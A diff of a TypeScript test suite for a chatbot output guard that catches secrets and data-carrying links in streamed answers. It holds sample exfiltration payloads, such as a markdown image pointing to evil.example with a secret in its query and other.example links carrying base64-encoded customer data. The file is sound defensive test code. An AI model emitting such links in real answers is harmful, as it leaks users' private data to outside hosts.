@@ -2,7 +2,6 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import { createClassifier } from "../sensitivity/classifier.ts";
-import { withoutTokenLinks } from "./answer-links.ts";
 import { guardrailPolicySchema } from "./guardrail-policy.ts";
 import { createOutputChecks, OUTPUT_CHECKS, type OutputCheckName } from "./output-checks.ts";
 import { createOutputGuard, type OutputMode, type OutputVerdict } from "./output-guard.ts";
@@ -99,7 +98,7 @@ describe("an answer with an offence", () => {
     "[open](https://other.example/?d=TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q)",
     "https://other.example/c/TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q9",
     "[open](https://bank.example/go?url=https://other.example/)",
-    "[open](https://bank.example/?name=PERSON_K7Q2X)",
+    "[open](https://other.example/?name=PERSON_K7Q2X)",
     "<https://other.example/?name=a&address=b&balance=1200&account=4471&notes=everything-else-that-is-known-of-it>",
   ]) {
     it(`does not carry data outside: ${answer.slice(0, 60)}`, () => assert.deepEqual(checksOf(answer), ["exfiltration"]));
@@ -108,6 +107,7 @@ describe("an answer with an offence", () => {
   it("may link to allowed hosts and to plain pages", () => {
     for (const answer of [
       "![logo](https://www.bank.example/logo.png)",
+      "[open](https://bank.example/?name=PERSON_K7Q2X)",
       "[rates](https://other.example/interest-rates-for-savings-accounts-2026)",
       "https://www.bank.example/a?b=TWVudSBmb3IgdGhlIGN1c3RvbWVyIGxpc3Q",
     ])
@@ -162,23 +162,57 @@ describe("an answer with an offence", () => {
   });
 });
 
-describe("a link with a masked token in its target", () => {
-  it("loses its target and keeps its words", () => {
-    assert.equal(
-      withoutTokenLinks("See [PERSON_K7Q2X](https://a.example/?n=PERSON_K7Q2X) and PERSON_K7Q2X."),
-      "See [PERSON_K7Q2X](about:blank) and PERSON_K7Q2X.",
-    );
-    assert.equal(withoutTokenLinks("[1]: https://a.example/EMAIL_ABCDE"), "[1]: about:blank");
-    assert.equal(withoutTokenLinks('<img src="https://a.example/PHONE_ABCDE">'), '<img src="about:blank">');
-    assert.equal(withoutTokenLinks("[a](https://a.example/b)"), "[a](https://a.example/b)");
+describe("a window that looks for secrets and links only", () => {
+  const guardOf = () => createOutputGuard({ mode: "window", checks: ["secrets", "exfiltration"], checkOf });
+  function streamed(answer: string, size: number): { readonly left: string; readonly verdict: OutputVerdict } {
+    const guard = guardOf();
+    let left = "";
+    for (let start = 0; start < answer.length; start += size) left += guard.push(answer.slice(start, start + size));
+    const verdict = guard.end();
+    return { left: left + verdict.text, verdict };
+  }
+
+  it("lets plain prose leave as it is written", () => {
+    const guard = guardOf();
+    assert.equal(guard.push("ご質問ありがとうございます。"), "ご質問ありがとうございます。");
+    assert.equal(guard.push("The fee is waived "), "The fee is waived ");
+  });
+
+  it("arrives whole, however it is cut, with numbers and links that are fine", () => {
+    const answer = `${LONG} In 2026 the fee was 1,100 yen (see https://www.bank.example/fees): 「変わりません」。${"金利は年0.2%です。".repeat(60)}🙂`;
+    for (const size of [1, 2, 3, 7, 40, 161, 4_096]) assert.deepEqual(streamed(answer, size).left, answer);
+  });
+
+  for (const secret of [
+    SECRET,
+    "1234-5678-9018",
+    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----",
+  ]) {
+    it(`does not let a character of ${secret.slice(0, 12)}… leave, wherever the stream cuts it`, () => {
+      for (const size of [1, 3, 16, 39, 41, 160]) {
+        for (let before = 0; before <= 200; before += 23) {
+          const { left, verdict } = streamed(`${LONG.slice(0, before)} 個人番号 ${secret} ${LONG}`, size);
+          assert.notEqual(verdict.verdict, "pass", `cut at ${size}, secret at ${before}`);
+          assert.ok(!left.includes(secret.slice(0, 6)), `cut at ${size}, secret at ${before}: ${left.slice(-60)}`);
+        }
+      }
+    });
+  }
+
+  it("does not let the beginning of a link outside leave", () => {
+    for (const size of [1, 5, 33]) {
+      const { left, verdict } = streamed(`${LONG}![x](https://evil.example/a.png?d=secret) ${LONG}`, size);
+      assert.notEqual(verdict.verdict, "pass");
+      assert.ok(!left.includes("evil"));
+    }
   });
 });
 
 describe("a scenario that says nothing of guardrails", () => {
-  it("has attacks refused in every channel, and answers checked for secrets, exfiltration and leakage as they stream", () => {
+  it("has attacks refused in every channel, and answers checked for secrets and exfiltration as they stream", () => {
     assert.deepEqual(guardrailPolicySchema.parse({}), {
       injection: { user: "hold", document: "hold", tool: "hold" },
-      output: { mode: "window", checks: ["secrets", "exfiltration", "leakage"], allowedHosts: [] },
+      output: { mode: "window", checks: ["secrets", "exfiltration"], allowedHosts: [] },
     });
     assert.equal(guardrailPolicySchema.safeParse({ output: { allowedHosts: ["https://bank.example"] } }).success, false);
   });
